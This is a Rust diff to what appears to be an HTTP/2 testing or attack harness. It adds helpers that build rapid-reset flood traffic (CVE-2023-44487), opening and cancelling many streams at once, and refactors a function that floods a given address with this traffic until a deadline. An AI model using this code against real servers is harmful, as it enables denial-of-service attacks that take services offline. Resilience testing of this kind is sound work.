@@ -294,6 +294,34 @@ pub mod h2frame {
         frame(out, CONTINUATION, flags, stream, block);
     }
 
+    /// One step of a rapid-reset flood (CVE-2023-44487): `stream` opened with the request
+    /// `block` (HEADERS with END_STREAM) and at once cancelled.
+    pub fn open_and_cancel(out: &mut Vec<u8>, stream: u32, block: &[u8]) {
+        headers(out, END_HEADERS | END_STREAM, stream, block);
+        rst_stream(out, stream);
+    }
+
+    /// A whole rapid-reset connection in one buffer: the preface, SETTINGS, then `streams`
+    /// streams opened (GET /) and cancelled at once, before a server can accept any of them.
+    pub fn rapid_reset_burst(streams: u32) -> Vec<u8> {
+        let mut out = PREFACE.to_vec();
+        settings(&mut out);
+        let block = get_block();
+        for i in 0..streams {
+            open_and_cancel(&mut out, 2 * i + 1, &block);
+        }
+        out
+    }
+
+    /// The first whole frame at the front of `buf`, as (type, flags, payload), and the bytes
+    /// it takes; `None` until its payload has arrived.
+    pub fn split(buf: &[u8]) -> Option<(u8, u8, &[u8], usize)> {
+        let head = buf.get(..9)?;
+        let len = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
+        let payload = buf.get(9..9 + len)?;
+        Some((head[3], head[4], payload, 9 + len))
+    }
+
     /// RST_STREAM(CANCEL), as a client resetting its own request sends it.
     pub fn rst_stream(out: &mut Vec<u8>, stream: u32) {
         reset(out, stream, 8);
@@ -399,13 +427,7 @@ pub fn rapid_reset(addr: SocketAddr, deadline: Instant, attackers: usize) -> Rap
                         while Instant::now() < deadline && stream < 0x7fff_0000 {
                             batch.clear();
                             for _ in 0..100 {
-                                h2frame::headers(
-                                    &mut batch,
-                                    h2frame::END_HEADERS | h2frame::END_STREAM,
-                                    stream,
-                                    &block,
-                                );
-                                h2frame::rst_stream(&mut batch, stream);
+                                h2frame::open_and_cancel(&mut batch, stream, &block);
                                 stream += 2;
                             }
                             if conn.write_all(&batch).is_err() {
